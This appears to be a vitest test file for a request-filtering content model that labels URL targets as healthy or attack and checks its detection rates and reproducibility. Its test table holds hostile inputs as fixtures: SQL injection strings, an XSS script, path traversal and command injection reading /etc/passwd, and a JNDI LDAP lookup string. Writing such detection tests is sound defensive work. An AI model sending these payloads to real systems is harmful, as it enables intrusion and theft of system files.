// The shipped content model is not a blob: its seed makes it again, byte for byte. And it is worth
// having: it finds attacks that it was not trained on and leaves healthy targets alone.

import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { ArtifactStatus } from "../../../host-tools/src/contract";
import { buildContent } from "../../../host-tools/src/content/build-content";
import { decodeContent, encodeContent } from "../../../host-tools/src/content/content-artifact";
import { DEFAULT_CONTENT, syntheticTargets } from "../../../host-tools/src/content/default-content";
import { evidenceOf } from "../../../host-tools/src/content/evidence-curve";
import { generatedFiles } from "../../../host-tools/src/content/generated-files";
import { startContentLab } from "./start-lab";

const bytes = readFileSync(resolve("wasmplugin/models/content.gngl"));
const artifact = decodeContent(bytes);
const lab = startContentLab();

describe("the shipped content model", () => {
  it("is rebuilt byte for byte from its seed", () => {
    const [[path, rebuilt] = ["", new Uint8Array()]] = generatedFiles();
    expect(path).toBe("wasmplugin/models/content.gngl");
    expect(Buffer.compare(rebuilt, bytes)).toBe(0);
  });

  it("is taken by the filter", () => {
    expect(lab.load(bytes)).toBe(ArtifactStatus.Ok);
  });

  it("finds made-up attacks and keeps its false alarms on made-up traffic rare", () => {
    lab.load(bytes);
    const targets = syntheticTargets(77, "test", 4000, 2000);
    const called = targets.filter(({ target }) => lab.score(target).supervised >= 0);
    const found = called.filter(({ attack }) => attack).length;
    expect(found).toBeGreaterThan(1980);
    expect(called.length - found).toBeLessThan(8);
  });

  it("gives evidence that is as rare on healthy traffic as it says", () => {
    lab.load(bytes);
    const healthy = syntheticTargets(78, "test", 8000, 0);
    const evidence = healthy.map(({ target }) => lab.score(target));
    for (const share of [0.1, 0.01]) {
      const level = evidenceOf(share);
      for (const table of ["supervisedEvidence", "oneClassEvidence"] as const) {
        const above = evidence.filter((score) => score[table] >= level).length / healthy.length;
        expect(above / share, `${table} at ${share}`).toBeLessThan(1.6);
        expect(above / share, `${table} at ${share}`).toBeGreaterThan(0.6);
      }
    }
  });

  it.each([
    ["/api/v1/orders?page=2&sort=created_at", "healthy"],
    ["/api/v1/customers?name=O%27Neil", "healthy"],
    ["/search?q=select%20a%20model%20from%20the%20list", "healthy"],
    ["/v1/chat/completions", "healthy"],
    ["/api/v1/orders?id=1%27%20OR%20%271%27%3D%271", "attack"],
    ["/api/v1/orders?page=2&sort=a&id=7+union+all+select+null%2Cnull--&limit=10", "attack"],
    ["/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "attack"],
    ["/files?name=..%2f..%2f..%2fetc%2fpasswd", "attack"],
    ["/ping?host=127.0.0.1;cat%20/etc/passwd", "attack"],
    ["/login?user=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "attack"],
  ])("calls %s %s", (target, verdict) => {
    lab.load(bytes);
    const called = lab.score(Buffer.from(target)).supervised >= artifact.attackScore;
    expect(called ? "attack" : "healthy").toBe(verdict);
  });
});

describe("building a content model", () => {
  const small = { ...DEFAULT_CONTENT, entries: 1024 };

  it("gives the same bytes for the same seed and other bytes for another", () => {
    const targets = syntheticTargets(3, "small", 1500, 500);
    const first = encodeContent(buildContent(targets, small));
    expect(Buffer.compare(first, encodeContent(buildContent(targets, small)))).toBe(0);
    const other = encodeContent(buildContent(targets, { ...small, seed: 2 }));
    expect(Buffer.compare(first, other)).not.toBe(0);
  });

  it("without attacks makes the one-class table alone", () => {
    const built = buildContent(syntheticTargets(4, "small", 1500, 0), small);
    expect(built.flags).toBe(2);
    expect(built.supervised.weights.every((weight) => weight === 0)).toBe(true);
    expect(lab.load(encodeContent(built))).toBe(ArtifactStatus.Ok);
  });

  it("says how many healthy targets it needs", () => {
    expect(() => buildContent(syntheticTargets(5, "few", 10, 10), small)).toThrow(
      "10 healthy targets, at least 1000 are needed",
    );
  });
});
